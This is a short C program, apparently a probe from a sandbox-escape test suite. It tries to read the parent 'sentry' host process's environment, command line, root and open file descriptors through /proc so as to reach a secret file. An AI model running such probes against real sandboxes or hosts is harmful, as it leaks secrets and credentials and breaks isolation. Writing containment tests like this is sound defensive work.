/* /proc/<parent>: the process that started us is the sentry, a host
 * process: its environment, command line, fds, cwd and root. */
#include <dirent.h>

#include "esc.h"

int main(int argc, char **argv)
{
	esc_init(argc, argv);
	pid_t pp = getppid();
	say("getppid: %d\n", pp);
	char p[4096];
	const char *names[] = { "environ", "cmdline", "cwd/../secret/secret.txt" };
	for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++) {
		snprintf(p, sizeof(p), "/proc/%d/%s", pp, names[i]);
		try_read(names[i], AT_FDCWD, p);
	}
	snprintf(p, sizeof(p), "/proc/%d/root%s", pp, arg("secret"));
	try_read("root", AT_FDCWD, p);
	/* Whatever the parent holds open: try each fd, as a file and as a
	 * folder from which the secret is a relative path. */
	for (int fd = 0; fd < 64; fd++) {
		snprintf(p, sizeof(p), "/proc/%d/fd/%d", pp, fd);
		int f = open(p, O_RDONLY | O_NONBLOCK);
		if (f < 0)
			continue;
		struct stat st;
		fstat(f, &st);
		if (S_ISREG(st.st_mode)) {
			dump_fd(p, f);
		} else if (S_ISDIR(st.st_mode)) {
			say("%s is a folder\n", p);
			try_read(p, f, arg("secret") + 1);
			try_read(p, f, "secret.txt");
		}
		close(f);
	}
	return 0;
}
